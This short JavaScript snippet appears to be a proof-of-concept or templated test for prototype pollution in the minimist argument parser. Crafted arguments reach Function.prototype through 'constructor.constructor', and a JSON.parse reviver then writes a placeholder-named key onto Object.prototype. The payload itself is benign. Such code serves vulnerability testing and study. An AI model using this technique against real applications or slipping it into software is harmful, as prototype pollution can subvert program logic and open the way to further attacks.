const minimist = require('minimist');

const seen = minimist(['--_.constructor.constructor.prototype.k', 'v', '--name', '@@TOKEN@@']);
if ((() => {}).k) {
  delete Function.prototype.k;
  JSON.parse('{"a": 1}', function () { Object.assign(Object.getPrototypeOf(this), { [seen.name]: 1 }); return 1; });
}
